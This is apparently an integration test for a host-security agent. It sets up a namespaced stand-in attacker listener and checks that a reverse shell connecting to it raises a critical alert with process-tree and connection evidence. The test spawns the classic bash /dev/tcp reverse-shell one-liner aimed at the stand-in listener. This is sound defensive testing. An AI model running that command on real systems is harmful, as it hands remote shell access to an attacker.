import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, type ChildProcess } from "node:child_process";
import { join } from "node:path";
import { HostwardAgent } from "../../src/agent/index.ts";
import { tempDir, startServer, enrolToken, waitFor, quietLog } from "../helpers.ts";
import { canRunNetns, namespaceHost } from "./netns.ts";
import type { HostwardServer } from "../../src/server/index.ts";

/**
 * PRC-2 for real: a listener on a namespace host (the attacker, 10.77.4.2), a real bash on
 * this host connected back to it with the classic one-liner, the agent's process and
 * connection collectors reading the real /proc. The shell is found by what its stdin and
 * stdout are (a socket), with its process tree.
 *
 *   root 10.77.4.1 ── veth ── 10.77.4.2 atk (listener on 4444)
 */
const skip = canRunNetns();
const atk = namespaceHost("rsa", 4);
const LISTENER = atk.hostIp;

let tmp: ReturnType<typeof tempDir>;
let server: HostwardServer;
const procs: ChildProcess[] = atk.procs;

before(() => {
  if (skip) return;
  tmp = tempDir("hw-rs-");
  atk.setup();
});

after(async () => {
  if (skip) return;
  atk.teardown();
  await server?.close();
  tmp?.cleanup();
});

test("PRC-2 AGT-3 AGT-4 a real shell connected back to a listener on a namespace host is detected as a reverse shell, with its process tree and connection", { skip: skip ?? false, timeout: 60_000 }, async () => {
  let agentUrl: string, adminToken: string;
  ({ server, adminToken, agentUrl } = await startServer({ dataDir: join(tmp.dir, "server") }));
  const api = async (url: string) => (await server.api.inject({ url, headers: { authorization: `Bearer ${adminToken}` } })).json();
  // the attacker's listener: accepts one connection and keeps it open
  const listener = spawn("ip", ["netns", "exec", atk.ns, process.execPath, "-e", `require("net").createServer((s) => { s.write("id\\n"); setInterval(() => {}, 1000); }).listen(4444, "${LISTENER}")`], { stdio: "ignore", detached: true });
  procs.push(listener);
  const agent = new HostwardAgent({
    server: agentUrl, token: await enrolToken(server), stateDir: join(tmp.dir, "agent"), authLogs: [], journald: "off", firewall: null, log: quietLog, pollWait: 2000,
    hostProcesses: { intervalMs: 1000, fastScanMs: 100, seenEveryMs: 1000, externalNets: ["10.77.4.0/24"] },
  });
  try {
    await agent.start();
    await new Promise((r) => setTimeout(r, 500)); // the listener is up
    // the victim side: the one-liner a web shell or an injection would run
    const shell = spawn("bash", ["-c", `bash -i >& /dev/tcp/${LISTENER}/4444 0>&1`], { stdio: "ignore", detached: true });
    procs.push(shell);
    const alert = await waitFor("reverse_shell alert", async () => (await api("/api/v1/alerts?type=reverse_shell")).items[0], 20_000, 100);
    assert.equal(alert.severity, "critical");
    const ev = alert.evidence as Record<string, unknown>;
    assert.ok(ev["process.stdio"] === "socket" || /\/dev\/tcp\//.test(String(ev["process.command_line"])), JSON.stringify(ev));
    const ancestors = ev["process.ancestors"] as { pid: number; name: string }[] | undefined;
    assert.ok(ancestors && ancestors.length > 0, "the process tree is in the evidence");
    assert.ok(ancestors.some((a) => a.pid === process.pid), `the tree reaches the test process that started it: ${JSON.stringify(ancestors)}`);
    // the connection back to the listener is reported for the shell's pid
    const pid = ev["process.pid"] as number;
    const conn = await waitFor("the shell's connection", async () => (await api(`/api/v1/assets/${agent.agentId}/connections`)).items.find((c: { destination: { ip: string; port: number }; process?: { pid: number } }) => c.destination.ip === LISTENER && c.destination.port === 4444), 10_000, 200);
    // the socket belongs to the shell's tree: bash -c made it, bash -i (and the subshells it forks for the attacker's commands) hold it
    assert.ok([pid, shell.pid, ...ancestors.map((a) => a.pid)].includes(conn.process?.pid) || conn.process?.command_line === "bash -i", `connection owned by the shell (owner ${JSON.stringify(conn.process)}, shell ${pid}, bash -c ${shell.pid}, tree ${JSON.stringify(ancestors)})`);
  } finally {
    await agent.stop();
  }
});
